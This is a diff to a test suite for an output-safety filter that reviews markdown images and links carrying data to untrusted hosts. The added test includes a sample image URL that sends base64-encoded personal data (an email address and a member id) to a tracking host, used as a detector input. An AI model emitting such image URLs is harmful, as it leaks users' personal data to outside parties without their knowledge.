@@ -1,6 +1,7 @@
 // output_safety: links and images that carry data to hosts the operator does not trust. Images
 // (and frames, CSS backgrounds) load without a click: data in them blocks. Links with data are
-// reviewed. Trusted domains (operator option or pack settings) are exempt; code is inert.
+// reviewed. Trusted domains (operator option or pack settings) are exempt; code is inert, except an image
+// in code whose URL holds a person's data or a secret (reviewed).
 
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
@@ -215,6 +216,23 @@ test('personal fields named in the languages of the packs, two in one image quer
   for (const text of ['All set. ![status](https://pix.tld/a.png?saldo=1204.50)', 'Here is the map. ![map](https://tiles.tld/static.png?pan=12.5&expiry=1735689600&zoom=14)', 'See the [gift cards](https://shop.tld/p?karte=geschenk&wert=50).']) {
     const r = await check(text);
     assert.equal(r.verdict, 'allow', `${text}\n${describe(r)}`);
+  }
+});
+
+test('an image shown as code is reviewed only when its URL holds personal data or a secret', async () => {
+  const personal = b64('member=QX71;mail=r.okonjo@fernpostmail.net;tier=gold');
+  const text = `Tracking snippet for the footer:\n\n\`\`\`\n![t](https://px.metrics-relay.tld/t.gif?u=${personal})\n\`\`\`\n`;
+  const r = await check(text);
+  assert.equal(r.verdict, 'review', describe(r));
+  assert.equal(ofCategory(r, 'exfiltration_link')[0]?.severity, 'medium');
+  for (const inert of [
+    `\`\`\`md\n![t](https://px.metrics-relay.tld/t.gif?u=${b64('the weekly digest was opened twice')})\n\`\`\``,
+    '```md\n![logo](https://cdn.brandhub.tld/logo.png?v=3)\n```',
+    '```md\n[Open](javascript:void(0))\n```',
+    `\`\`\`md\n[profile](https://crm.partner.tld/p?u=${personal})\n\`\`\``,
+  ]) {
+    const benign = await check(inert);
+    assert.equal(benign.verdict, 'allow', `${inert}\n→ ${describe(benign)}`);
   }
 });
 
